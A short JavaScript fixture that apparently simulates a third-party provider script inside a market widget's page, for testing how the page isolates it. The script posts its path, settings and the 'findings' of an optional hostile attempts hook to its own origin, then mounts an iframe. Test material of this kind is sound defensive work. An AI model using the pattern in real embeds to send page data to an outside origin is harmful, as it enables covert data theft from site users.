/*
 * What the stand-in provider's scripts do inside a market widget's page: say what they were asked for, and show a frame
 * of their own. A hostile one brings attempts.js along, and makes
 * them first.
 */
const tag = document.currentScript;
const provider = new URL(tag.src).origin;

async function embed() {
  const findings = (await globalThis.attempt?.(provider)) ?? [];
  const order = { script: new URL(tag.src).pathname, settings: JSON.parse(tag.textContent), findings };
  await fetch(`${provider}/told`, { method: 'POST', body: JSON.stringify(order) });
  const frame = document.createElement('iframe');
  frame.src = `${provider}/frame.html`;
  tag.parentElement.append(frame);
}

embed();
